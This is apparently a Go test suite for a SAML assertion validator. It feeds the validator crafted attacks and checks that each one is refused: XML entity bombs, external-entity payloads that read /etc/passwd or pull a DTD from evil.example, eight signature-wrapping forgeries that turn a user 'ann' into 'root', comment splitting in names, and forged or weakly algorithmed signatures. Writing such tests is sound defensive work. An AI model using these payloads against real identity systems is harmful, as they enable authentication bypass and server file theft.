package saml

import (
	"bytes"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha1"
	"crypto/x509"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/beevik/etree"
	"github.com/crewjam/saml"
	dsig "github.com/russellhaering/goxmldsig"
)

const (
	provider = "https://idp.example/entity"
	us       = "https://cloud.example/sp"
	here     = "https://cloud.example/v3/OS-FEDERATION/identity_providers/acme/protocols/saml2/auth"
)

var noon = time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)

var (
	ours   = testKey()
	theirs = testKey() // of another provider, or of an attacker
)

func testKey() Key {
	k, err := NewKey(noon, noon.Add(time.Hour))
	if err != nil {
		panic(err)
	}
	return k
}

var believed = Provider{EntityID: provider, Certificates: []*x509.Certificate{ours.Certificate}}

var expected = Expected{Now: noon, Audience: us, Recipients: []string{here}, Named: true, Asked: func(request string) error {
	if request != "request-1" {
		return errors.New("nobody has asked for it")
	}
	return nil
}}

// assertionOf is an assertion about a user that would be accepted once signed.
func assertionOf(user string) *saml.Assertion {
	return &saml.Assertion{
		ID: NewID(), IssueInstant: noon, Version: "2.0", Issuer: saml.Issuer{Value: provider},
		Subject: &saml.Subject{NameID: &saml.NameID{Value: user}, SubjectConfirmations: []saml.SubjectConfirmation{{
			Method:                  bearer,
			SubjectConfirmationData: &saml.SubjectConfirmationData{NotOnOrAfter: noon.Add(time.Minute), Recipient: here, InResponseTo: "request-1"},
		}}},
		Conditions: &saml.Conditions{NotBefore: noon.Add(-time.Second), NotOnOrAfter: noon.Add(time.Minute),
			AudienceRestrictions: []saml.AudienceRestriction{{Audience: saml.Audience{Value: us}}}},
		AuthnStatements:     []saml.AuthnStatement{{AuthnInstant: noon}},
		AttributeStatements: []saml.AttributeStatement{{Attributes: []saml.Attribute{{Name: "uid", Values: []saml.AttributeValue{{Type: "xs:string", Value: user}}}}}},
	}
}

// enclosed puts assertions into a response.
func enclosed(assertions ...*etree.Element) *etree.Element {
	response := saml.Response{ID: NewID(), IssueInstant: noon, Version: "2.0", Destination: here, Issuer: &saml.Issuer{Value: provider},
		Status: saml.Status{StatusCode: saml.StatusCode{Value: success}}}
	el := response.Element()
	for _, a := range assertions {
		el.AddChild(a)
	}
	return el
}

// signedBy puts a signature where SAML wants it: behind the issuer.
func signedBy(t *testing.T, k Key, el *etree.Element) *etree.Element {
	t.Helper()
	signature, err := sign(k, el)
	if err != nil {
		t.Fatal(err)
	}
	el.InsertChildAt(1, signature)
	return el
}

func written(t *testing.T, el *etree.Element) []byte {
	t.Helper()
	text, err := Write(el)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

// refused checks that a document is believed in no part.
func refused(t *testing.T, why string, document []byte) {
	t.Helper()
	heard, err := believed.Accept(document, expected)
	if err == nil {
		t.Errorf("%s: %q is believed", why, heard.NameID)
		return
	}
	t.Logf("%s: %v", why, err)
}

func TestAccept(t *testing.T) {
	t.Parallel()
	for how, document := range map[string][]byte{
		"assertion signed": written(t, enclosed(signedBy(t, ours, assertionOf("ann").Element()))),
		"response signed":  written(t, signedBy(t, ours, enclosed(assertionOf("ann").Element()))),
		"both signed":      written(t, signedBy(t, ours, enclosed(signedBy(t, ours, assertionOf("ann").Element())))),
		"carried":          written(t, ECP(enclosed(signedBy(t, ours, assertionOf("ann").Element())), "ss:mem:")),
	} {
		heard, err := believed.Accept(document, expected)
		if err != nil || heard.NameID != "ann" || heard.Issuer != provider || len(heard.Attributes["uid"]) != 1 || heard.Attributes["uid"][0] != "ann" {
			t.Errorf("%s: got %+v, %v", how, heard, err)
		}
	}
}

// What we say ourselves is believed by our own reader.
func TestRespondIsAccepted(t *testing.T) {
	t.Parallel()
	response, err := Respond(ours, Said{Issuer: provider, Recipient: here, User: "ann <&>", At: noon, Until: noon.Add(time.Hour),
		Attributes: []Attribute{{"openstack_roles", []string{"member", "reader"}}}})
	if err != nil {
		t.Fatal(err)
	}
	want := expected
	want.Named, want.Asked = false, func(request string) error {
		if request != "" {
			return errors.New("it answers something")
		}
		return nil
	}
	heard, err := believed.Accept(written(t, ECP(response, "x")), want)
	if err != nil || heard.NameID != "ann <&>" || len(heard.Attributes["openstack_roles"]) != 2 || !heard.Until.Equal(noon.Add(time.Hour)) {
		t.Errorf("got %+v, %v", heard, err)
	}
}

func TestAttackSAMLEntityBomb(t *testing.T) {
	t.Parallel()
	document := string(written(t, enclosed(signedBy(t, ours, assertionOf("ann").Element()))))
	bomb := `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`
	refused(t, "document type", []byte(strings.Replace(document, "?>", "?>"+bomb, 1)))
	refused(t, "entity without a type", []byte(strings.Replace(document, "ann<", "&c;<", 1)))
	refused(t, "type in the middle", []byte(strings.Replace(document, "<saml:Assertion", bomb+"<saml:Assertion", 1)))
	deep := strings.Repeat("<a>", 30000) + strings.Repeat("</a>", 30000)
	refused(t, "deep", []byte(deep[:maxBytes-100]))
	refused(t, "wide", []byte("<a>"+strings.Repeat("<b/>", maxElements+1)+"</a>"))
	refused(t, "attributes", []byte("<a"+strings.Repeat(` b="c"`, 60)+"/>"))
}

func TestAttackSAMLExternalEntity(t *testing.T) {
	t.Parallel()
	document := string(written(t, enclosed(signedBy(t, ours, assertionOf("ann").Element()))))
	for _, dtd := range []string{
		`<!DOCTYPE x SYSTEM "file:///etc/passwd">`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, `<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>`,
	} {
		refused(t, dtd, []byte(strings.Replace(strings.Replace(document, "?>", "?>"+dtd, 1), "ann<", "&e;<", 1)))
	}
	refused(t, "stylesheet", []byte(strings.Replace(document, "?>", `?><?xml-stylesheet href="http://evil.example/"?>`, 1)))
	refused(t, "inclusion", []byte(strings.Replace(document, "<saml:Assertion", `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><saml:Assertion`, 1)+"<x/>"))
}

// The eight forms of signature wrapping: somebody who has a signed document about
// ann makes one about root.
func TestAttackSAMLSignatureWrapping(t *testing.T) {
	t.Parallel()
	without := func(el *etree.Element) *etree.Element {
		el = el.Copy()
		for _, s := range children(el, dsig.Namespace, "Signature") {
			el.RemoveChild(s)
		}
		return el
	}
	signature := func(el *etree.Element) *etree.Element { return children(el, dsig.Namespace, "Signature")[0] }
	named := func(el *etree.Element, id string) *etree.Element {
		el.RemoveAttr("ID")
		el.CreateAttr("ID", id)
		return el
	}
	response := func() (good, evil *etree.Element) {
		return signedBy(t, ours, enclosed(assertionOf("ann").Element())), enclosed(assertionOf("root").Element())
	}
	assertion := func() (good, evil *etree.Element) {
		return signedBy(t, ours, assertionOf("ann").Element()), assertionOf("root").Element()
	}
	forms := map[string]func(same bool) *etree.Element{
		"1": func(same bool) *etree.Element {
			good, evil := response()
			s := signature(good).Copy()
			s.AddChild(without(good))
			evil.InsertChildAt(1, s)
			if same {
				named(evil, attr(good, "ID"))
			}
			return evil
		},
		"2": func(same bool) *etree.Element {
			good, evil := response()
			evil.InsertChildAt(1, without(good))
			evil.InsertChildAt(2, signature(good).Copy())
			if same {
				named(evil, attr(good, "ID"))
			}
			return evil
		},
		"3": func(same bool) *etree.Element {
			good, evil := assertion()
			if same {
				named(evil, attr(good, "ID"))
			}
			return enclosed(evil, good)
		},
		"4": func(same bool) *etree.Element {
			good, evil := assertion()
			if same {
				named(evil, attr(good, "ID"))
			}
			evil.AddChild(good)
			return enclosed(evil)
		},
		"5": func(same bool) *etree.Element {
			good, evil := assertion()
			evil.InsertChildAt(1, signature(good).Copy())
			if same {
				named(evil, attr(good, "ID"))
			}
			return enclosed(evil, without(good))
		},
		"6": func(same bool) *etree.Element {
			good, evil := assertion()
			s := signature(good).Copy()
			s.AddChild(without(good))
			evil.InsertChildAt(1, s)
			if same {
				named(evil, attr(good, "ID"))
			}
			return enclosed(evil)
		},
		"7": func(same bool) *etree.Element {
			good, evil := assertion()
			if same {
				named(evil, attr(good, "ID"))
			}
			root := enclosed(good)
			extensions := etree.NewElement("samlp:Extensions")
			extensions.AddChild(evil)
			root.InsertChildAt(1, extensions)
			return root
		},
		"8": func(same bool) *etree.Element {
			good, evil := assertion()
			s := signature(good).Copy()
			object := s.CreateElement("ds:Object")
			object.AddChild(without(good))
			evil.InsertChildAt(1, s)
			if same {
				named(evil, attr(good, "ID"))
			}
			return enclosed(evil)
		},
		"assertions swapped": func(bool) *etree.Element {
			good, evil := assertion()
			return enclosed(good, evil)
		},
		"two responses": func(bool) *etree.Element {
			good, evil := response()
			good.AddChild(evil)
			return good
		},
		"header": func(bool) *etree.Element {
			good, evil := assertion()
			envelope := ECP(enclosed(good), "x")
			envelope.ChildElements()[0].AddChild(evil)
			return envelope
		},
		"other namespace": func(bool) *etree.Element {
			good, evil := assertion()
			evil.RemoveAttr("xmlns:saml")
			evil.CreateAttr("xmlns:saml", "urn:evil")
			return enclosed(evil, good)
		},
		"empty URI": func(bool) *etree.Element {
			good, _ := assertion()
			good.FindElement("./Signature/SignedInfo/Reference").RemoveAttr("URI")
			good.FindElement("./Signature/SignedInfo/Reference").CreateAttr("URI", "")
			return enclosed(good)
		},
		"two references": func(bool) *etree.Element {
			good, _ := assertion()
			info := good.FindElement("./Signature/SignedInfo")
			info.AddChild(info.FindElement("./Reference").Copy())
			return enclosed(good)
		},
		"two signed infos": func(bool) *etree.Element {
			good, _ := assertion()
			s := signature(good)
			s.InsertChildAt(0, s.FindElement("./SignedInfo").Copy())
			return enclosed(good)
		},
	}
	for form, make := range forms {
		for _, same := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s, same ID %t", form, same), func(t *testing.T) { refused(t, form, written(t, make(same))) })
			t.Run(fmt.Sprintf("%s carried, same ID %t", form, same), func(t *testing.T) {
				root := make(same)
				if is(root, nsProtocol, "Response") {
					refused(t, form, written(t, ECP(root, "x")))
				}
			})
		}
	}
}

// A comment splits the name for some readers: root<!---->.evil.example.
func TestAttackSAMLCommentInNameID(t *testing.T) {
	t.Parallel()
	signed := string(written(t, enclosed(signedBy(t, ours, assertionOf("root.evil.example").Element()))))
	for _, between := range []string{"<!-- -->", "<!---->", "<?x y?>", "<![CDATA[]]>", "<x/>", "&#0;", "&nothing;"} {
		refused(t, between, []byte(strings.ReplaceAll(signed, "root.evil", "root"+between+".evil")))
	}
}

func TestAttackSAMLUnsigned(t *testing.T) {
	t.Parallel()
	refused(t, "no signature", written(t, enclosed(assertionOf("root").Element())))
	refused(t, "signature of nothing", written(t, enclosed(func() *etree.Element {
		el := assertionOf("root").Element()
		el.CreateElement("ds:Signature").CreateAttr("xmlns:ds", dsig.Namespace)
		return el
	}())))
	changed := strings.ReplaceAll(string(written(t, enclosed(signedBy(t, ours, assertionOf("ann").Element())))), "ann<", "root<")
	refused(t, "changed since", []byte(changed))
	// Of a response that is signed and an assertion that isn't right, neither counts.
	both := signedBy(t, ours, enclosed(signedBy(t, theirs, assertionOf("ann").Element())))
	refused(t, "one of two", written(t, both))
	for _, more := range []string{"Extensions", "Consent"} {
		root := enclosed(signedBy(t, ours, assertionOf("ann").Element()))
		root.CreateElement("samlp:" + more)
		refused(t, more, written(t, root))
	}
	refused(t, "a request", []byte(`<samlp:AuthnRequest xmlns:samlp="`+nsProtocol+`"/>`))
	refused(t, "nothing", nil)
	refused(t, "text", []byte("root"))
}

// What may be about the assertion, each wrong in one point.
func TestAttackSAMLOtherAudience(t *testing.T) {
	t.Parallel()
	with := func(change func(a *saml.Assertion)) []byte {
		a := assertionOf("ann")
		change(a)
		return written(t, enclosed(signedBy(t, ours, a.Element())))
	}
	refused(t, "another audience", with(func(a *saml.Assertion) {
		a.Conditions.AudienceRestrictions[0].Audience.Value = "https://other.example/sp"
	}))
	refused(t, "audience that begins like us", with(func(a *saml.Assertion) { a.Conditions.AudienceRestrictions[0].Audience.Value = us + ".evil.example" }))
	refused(t, "one audience is another", with(func(a *saml.Assertion) {
		a.Conditions.AudienceRestrictions = append(a.Conditions.AudienceRestrictions, saml.AudienceRestriction{Audience: saml.Audience{Value: "https://other.example"}})
	}))
	refused(t, "no audience", with(func(a *saml.Assertion) { a.Conditions.AudienceRestrictions = nil }))
	refused(t, "no conditions", with(func(a *saml.Assertion) { a.Conditions = nil }))
	refused(t, "another issuer", with(func(a *saml.Assertion) { a.Issuer.Value = "https://evil.example" }))
}

func TestAttackSAMLExpired(t *testing.T) {
	t.Parallel()
	with := func(change func(a *saml.Assertion)) []byte {
		a := assertionOf("ann")
		change(a)
		return written(t, enclosed(signedBy(t, ours, a.Element())))
	}
	confirmation := func(a *saml.Assertion) *saml.SubjectConfirmationData {
		return a.Subject.SubjectConfirmations[0].SubjectConfirmationData
	}
	past, future := noon.Add(-Skew), noon.Add(Skew+time.Second)
	refused(t, "conditions over", with(func(a *saml.Assertion) { a.Conditions.NotOnOrAfter = past }))
	refused(t, "conditions not yet", with(func(a *saml.Assertion) { a.Conditions.NotBefore = future }))
	refused(t, "confirmation over", with(func(a *saml.Assertion) { confirmation(a).NotOnOrAfter = past }))
	refused(t, "confirmation not yet", with(func(a *saml.Assertion) { confirmation(a).NotBefore = future }))
	refused(t, "confirmation for ever", with(func(a *saml.Assertion) { confirmation(a).NotOnOrAfter = time.Time{} }))
	refused(t, "issued later", with(func(a *saml.Assertion) { a.IssueInstant = future }))
	refused(t, "session over", with(func(a *saml.Assertion) { a.AuthnStatements[0].SessionNotOnOrAfter = &noon }))
	refused(t, "nobody signed in", with(func(a *saml.Assertion) { a.AuthnStatements = nil }))
	late := expected
	late.Now = noon.Add(2 * time.Hour) // when the certificate has expired too
	_, err := believed.Accept(written(t, enclosed(signedBy(t, ours, assertionOf("ann").Element()))), late)
	if err == nil {
		t.Error("an expired certificate signs")
	}
}

func TestAttackSAMLWrongRecipient(t *testing.T) {
	t.Parallel()
	with := func(change func(d *saml.SubjectConfirmation)) []byte {
		a := assertionOf("ann")
		change(&a.Subject.SubjectConfirmations[0])
		return written(t, enclosed(signedBy(t, ours, a.Element())))
	}
	refused(t, "recipient", with(func(c *saml.SubjectConfirmation) { c.SubjectConfirmationData.Recipient = "https://other.example/auth" }))
	refused(t, "no recipient", with(func(c *saml.SubjectConfirmation) { c.SubjectConfirmationData.Recipient = "" }))
	refused(t, "holder of key", with(func(c *saml.SubjectConfirmation) { c.Method = "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key" }))
	refused(t, "no data", with(func(c *saml.SubjectConfirmation) { c.SubjectConfirmationData = nil }))
	refused(t, "another request", with(func(c *saml.SubjectConfirmation) { c.SubjectConfirmationData.InResponseTo = "request-2" }))
	refused(t, "no request", with(func(c *saml.SubjectConfirmation) { c.SubjectConfirmationData.InResponseTo = "" }))
	elsewhere := enclosed(signedBy(t, ours, assertionOf("ann").Element()))
	elsewhere.RemoveAttr("Destination")
	elsewhere.CreateAttr("Destination", "https://other.example/auth")
	refused(t, "destination", written(t, elsewhere))
	failed := enclosed(signedBy(t, ours, assertionOf("ann").Element()))
	code := failed.FindElement("./Status/StatusCode")
	code.RemoveAttr("Value")
	code.CreateAttr("Value", "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed")
	refused(t, "status", written(t, failed))
}

// Whoever signs by a key of their own and puts its certificate into the signature
// is nobody, even when the real one stands beside it.
func TestAttackSAMLEmbeddedCertificate(t *testing.T) {
	t.Parallel()
	signed := signedBy(t, theirs, assertionOf("root").Element())
	refused(t, "own certificate", written(t, enclosed(signed.Copy())))
	known := signedBy(t, ours, assertionOf("ann").Element()).FindElement("./Signature/KeyInfo")
	for name, swap := range map[string]func(el *etree.Element){
		"the real certificate": func(el *etree.Element) {
			s := el.FindElement("./Signature")
			s.RemoveChild(s.FindElement("./KeyInfo"))
			s.AddChild(known.Copy())
		},
		"both certificates": func(el *etree.Element) {
			el.FindElement("./Signature/KeyInfo/X509Data").AddChild(known.FindElement("./X509Data/X509Certificate").Copy())
		},
		"no certificate": func(el *etree.Element) {
			s := el.FindElement("./Signature")
			s.RemoveChild(s.FindElement("./KeyInfo"))
		},
	} {
		el := signed.Copy()
		swap(el)
		refused(t, name, written(t, enclosed(el)))
	}
}

func TestAttackSAMLOtherProvidersKey(t *testing.T) {
	t.Parallel()
	refused(t, "as our provider", written(t, enclosed(signedBy(t, theirs, assertionOf("ann").Element()))))
	a := assertionOf("ann")
	a.Issuer.Value = "https://other.example"
	refused(t, "as itself", written(t, enclosed(signedBy(t, theirs, a.Element()))))
	refused(t, "response", written(t, signedBy(t, theirs, enclosed(assertionOf("ann").Element()))))
}

func TestAttackSAMLWeakAlgorithms(t *testing.T) {
	t.Parallel()
	weak := func(hash func(c *dsig.SigningContext)) []byte {
		el := assertionOf("ann").Element()
		c, err := dsig.NewSigningContext(ours.signer())
		if err != nil {
			t.Fatal(err)
		}
		c.Canonicalizer = dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("")
		hash(c)
		signature, err := c.ConstructSignature(el, true)
		if err != nil {
			t.Fatal(err)
		}
		el.InsertChildAt(1, signature)
		return written(t, enclosed(el))
	}
	_, err := believed.Accept(weak(func(*dsig.SigningContext) {}), expected)
	if err != nil {
		t.Fatalf("as it should be: %v", err)
	}
	refused(t, "SHA-1", weak(func(c *dsig.SigningContext) {
		err := c.SetSignatureMethod(dsig.RSASHA1SignatureMethod)
		if err != nil {
			t.Fatal(err)
		}
	}))
	refused(t, "comments count", weak(func(c *dsig.SigningContext) {
		c.Canonicalizer = dsig.MakeC14N10ExclusiveWithCommentsCanonicalizerWithPrefixList("")
	}))
	refused(t, "another transform", bytes.Replace(weak(func(*dsig.SigningContext) {}), []byte(dsig.EnvelopedSignatureAltorithmId), []byte("http://www.w3.org/TR/1999/REC-xslt-19991116"), 1))
	refused(t, "HMAC with the public key", bytes.Replace(weak(func(*dsig.SigningContext) {}), []byte(dsig.RSASHA256SignatureMethod), []byte("http://www.w3.org/2000/09/xmldsig#hmac-sha256"), 1))
}

func TestAttackSAMLHugeDocument(t *testing.T) {
	t.Parallel()
	signed := string(written(t, enclosed(signedBy(t, ours, assertionOf("ann").Element()))))
	refused(t, "large", []byte(strings.Replace(signed, "?>", "?>"+strings.Repeat(" ", maxBytes), 1)))
}

func TestAttackSAMLDuplicateIDs(t *testing.T) {
	t.Parallel()
	a := signedBy(t, ours, assertionOf("ann").Element())
	for name, change := range map[string]func(root *etree.Element){
		"of the response":  func(root *etree.Element) { root.RemoveAttr("ID"); root.CreateAttr("ID", attr(a, "ID")) },
		"by another name":  func(root *etree.Element) { root.CreateAttr("Id", attr(a, "ID")) },
		"xml:id":           func(root *etree.Element) { root.ChildElements()[0].CreateAttr("xml:id", attr(a, "ID")) },
		"AssertionID":      func(root *etree.Element) { root.CreateAttr("AssertionID", attr(a, "ID")) },
		"of the signature": func(root *etree.Element) { root.FindElement("./Assertion/Signature").CreateAttr("Id", attr(a, "ID")) },
	} {
		root := enclosed(a.Copy())
		change(root)
		refused(t, name, written(t, root))
	}
	signed := string(written(t, enclosed(a)))
	refused(t, "attribute twice", []byte(strings.Replace(signed, "<saml:Assertion ", `<saml:Assertion ID="x" `, 1)))
	refused(t, "attribute in two namespaces", []byte(strings.Replace(signed, "<saml:Assertion ", `<saml:Assertion xmlns:e="urn:e" e:ID="x" `, 1)))
}

// Signature values that are no signatures at all.
func TestAttackSAMLForgedSignatureValue(t *testing.T) {
	t.Parallel()
	sum := sha1.Sum([]byte("x"))
	for name, value := range map[string]string{"empty": "", "zeros": strings.Repeat("A", 342) + "==", "text": "%%%", "hash": fmt.Sprintf("%x", sum)} {
		el := signedBy(t, ours, assertionOf("ann").Element())
		el.FindElement("./Signature/SignatureValue").SetText(value)
		refused(t, name, written(t, enclosed(el)))
	}
	small, err := rsa.GenerateKey(rand.Reader, 1024)
	if err == nil {
		refused(t, "small key", written(t, enclosed(signedBy(t, Key{small, ours.Certificate}, assertionOf("ann").Element()))))
	}
}

// Whatever comes, nothing is believed that was not signed, and nothing breaks.
func FuzzAccept(f *testing.F) {
	response := saml.Response{ID: "a", IssueInstant: noon, Version: "2.0"}
	assertion := assertionOf("ann").Element()
	signature, err := sign(ours, assertion)
	if err != nil {
		f.Fatal(err)
	}
	assertion.InsertChildAt(1, signature)
	root := response.Element()
	root.AddChild(assertion)
	text, err := Write(root)
	if err != nil {
		f.Fatal(err)
	}
	f.Add(text)
	f.Add([]byte("<a/>"))
	f.Fuzz(func(t *testing.T, document []byte) {
		heard, err := believed.Accept(document, expected)
		if err == nil && heard.NameID != "ann" {
			t.Errorf("%q is believed", heard.NameID)
		}
	})
}

func parsed(t *testing.T, text string) *etree.Element {
	t.Helper()
	doc := etree.NewDocument()
	err := doc.ReadFromString(text)
	if err != nil {
		t.Fatal(err)
	}
	return doc.Root()
}
